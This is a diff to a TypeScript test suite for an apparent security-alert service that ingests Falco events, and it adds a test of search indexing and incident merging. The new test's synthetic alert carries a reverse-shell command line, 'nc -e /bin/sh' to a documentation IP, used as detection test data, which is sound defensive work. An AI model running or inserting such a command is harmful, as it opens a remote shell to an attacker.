@@ -13,6 +13,7 @@ import { apiRequest, makeToken, noParams, params } from "./fixtures";
 import { SHOP_YAML } from "./cluster-fixture";
 import { db } from "../lib/db/client";
 import { falcoRule, makeFalcoEvent } from "../lib/demo/synthetic-falco";
+import { drainIncidentTerms } from "../lib/db/incident-terms";
 
 const CLUSTER = `vol-${Date.now().toString(36)}`;
 // an hour-aligned start two days back, so bucket arithmetic in the tests is exact
@@ -44,13 +45,16 @@ const read = (i: number, file: string) =>
     fields: { "proc.name": "cat", "proc.cmdline": `cat ${file}`, "fd.name": file, "user.name": "root" },
   });
 
-async function post(events: unknown[]) {
+async function post(events: unknown[], drain = true) {
   const res = await alertsRoute.POST(
     apiRequest(`/api/v1/alerts/falco?cluster=${CLUSTER}`, { method: "POST", token: admin, rawBody: events.map((e) => JSON.stringify(e)).join("\n"), headers: { "content-type": "application/x-ndjson" } }),
     params({ source: "falco" }),
   );
   expect(res.status).toBe(202);
-  return res.json();
+  const body = await res.json();
+  // what the server's 2-second timer does: the alerts' values into the search index
+  if (drain) await drainIncidentTerms();
+  return body;
 }
 const get = async (route: { GET: typeof alertsOf.GET }, url: string, p: Record<string, string>, token = analyst) => {
   const res = await route.GET(apiRequest(url, { token }), params(p));
@@ -249,5 +253,18 @@ describe("histograms", () => {
     expect((await call("hours=72", outsider)).series).toEqual([]);
     // a day ago and later: nothing of these two-day-old alerts
     expect((await call("hours=24")).series).toEqual([]);
+  });
+});
+
+describe("the search index timer", () => {
+  it("a value is searchable once the index timer has run, and a merge before that still lands it on the survivor", async () => {
+    expect((await post([shell(400, "nc -e /bin/sh 198.51.100.4 9001")], false)).accepted).toBe(1);
+    expect((await queue("q=198.51.100.4")).length).toBe(0);
+    const cluster = await db().cluster.findUniqueOrThrow({ where: { name: CLUSTER } });
+    const fresh = await db().incident.findFirstOrThrow({ where: { clusterId: cluster.id, firstSeen: new Date(T0 + 400 * 60_000) } });
+    const res = await merge.POST(apiRequest(`/api/v1/incidents/${incidentId}/merge`, { method: "POST", token: analyst, body: { incidentId: fresh.id } }), params({ id: incidentId }));
+    expect(res.status).toBe(200);
+    await drainIncidentTerms();
+    expect((await queue("q=198.51.100.4")).map((i: { id: string }) => i.id)).toEqual([incidentId]);
   });
 });
